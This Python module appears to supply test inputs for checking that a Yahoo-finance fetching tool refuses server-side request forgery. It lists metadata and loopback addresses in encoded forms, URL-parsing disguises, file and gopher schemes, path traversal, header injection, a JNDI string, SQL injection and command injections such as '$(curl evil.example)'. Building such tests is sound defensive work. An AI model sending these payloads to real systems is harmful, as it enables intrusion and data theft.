"""Places that no tool may be led to, as a captured model or a captured Yahoo would write them."""

from __future__ import annotations

NAMES = (
    "169.254.169.254", "127.0.0.1", "10.0.0.1", "192.168.0.1", "172.16.0.1", "100.64.0.1", "0.0.0.0", "255.255.255.255",
    "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe", "169.254.43518", "127.1", "017700000001",
    "[::1]", "[::]", "[::ffff:169.254.169.254]", "[fe80::1]", "[fd00::1]", "[64:ff9b::a9fe:a9fe]", "[2001:db8::5]",
    "localhost", "localhost.localdomain", "metadata.google.internal", "metadata", "kubernetes.default.svc",
    "127.0.0.1.nip.io", "169-254-169-254.sslip.io", "localtest.me", "spoofed.burpcollaborator.net", "evil.example",
    "\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463",
    "127\u30020\u30020\u30021", "yahoo.com.evil.example", "evilyahoo.com", "yahoo.com-evil.example",
)  # fmt: skip
"""Names and numbers of hosts: private, of this machine, of a cloud's metadata, of an attacker; and disguised."""

DISGUISES = (
    "https://{host}/", "http://{host}/latest/meta-data/", "//{host}/", "https://{host}:443/v8/finance/chart/AAPL",
    "https://query2.finance.yahoo.com@{host}/", "https://{host}#@query2.finance.yahoo.com/",
    "https://{host}?@query2.finance.yahoo.com/", "https://{host}\\@query2.finance.yahoo.com/", "\\\\{host}\\",
    "https:{host}/", "https:///{host}/", "https://{host}%00.yahoo.com/", "https://{host}%2f.yahoo.com/", "@{host}/",
    "https://{host}\t.yahoo.com/", "https://{host}\\.yahoo.com/", "https://{host};.yahoo.com/", "https://{host}/.yahoo.com",
)  # fmt: skip
"""Ways to write a host into an address."""

ODDITIES = (
    "file:///etc/passwd", "file://localhost/etc/passwd", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/",
    "ftp://127.0.0.1/", "ldap://127.0.0.1/", "jar:https://evil.example!/", "data:text/plain,x", "javascript:alert(1)",
    "netdoc:///etc/passwd", "smb://10.0.0.1/share", "telnet://127.0.0.1:22/", "https://query2.finance.yahoo.com:22/",
    "http://query2.finance.yahoo.com/", "https://query2.finance.yahoo.com:8443/v8/finance/chart/AAPL",
)  # fmt: skip
"""Other schemes and ports."""

TRICKS = (
    "../../../etc/passwd", "..%2f..%2fv1%2ftest%2fgetcrumb", "AAPL/../../../v1/test/getcrumb", "AAPL%2F..%2F..",
    "AAPL?x=1", "AAPL#@evil.example", "AAPL\r\nHost: evil.example", "AAPL%0d%0aHost:%20evil.example", "AAPL\nX: y",
    "AAPL\x00", "AAPL ", "AAPL&symbols=X", ".", "..", "...", "./AAPL", "AAPL;x=1", "AAPL\\..\\..", "AAPL\u2024DE",
    "AAPL\u3002DE", "AAPL\uff0eDE", "\uff21\uff21\uff30\uff2c", "%41APL", "AAPL@evil.example", "@evil.example",
    "{symbol}", "${jndi:ldap://evil.example/a}", "`curl evil.example`", "$(curl evil.example)",
    "AAPL|curl evil.example", "-o/etc/passwd", "--proxy=evil.example", "'; DROP TABLE x; --",
)  # fmt: skip
"""Arguments that would change the address that they become a part of."""


def arguments() -> list[str]:
    """What is tried as a tool's argument: every place bare and in each disguise that fits one, oddities and tricks."""
    few = ("169.254.169.254", "[::1]", "evil.example", "10.0.0.1")
    disguised = [disguise.format(host=host) for disguise in DISGUISES for host in few]
    return list(dict.fromkeys([*NAMES, *disguised, *ODDITIES, *TRICKS]))


def locations() -> list[str]:
    """Where a redirect is tried to: every place in each disguise, and oddities."""
    disguised = [disguise.format(host=host) for host in NAMES for disguise in DISGUISES]
    return list(dict.fromkeys([*disguised, *ODDITIES]))


def in_a_header(text: str) -> str:
    """`text` as its bytes in UTF-8, each as a character: what a header may hold."""
    return text.encode().decode("latin-1")
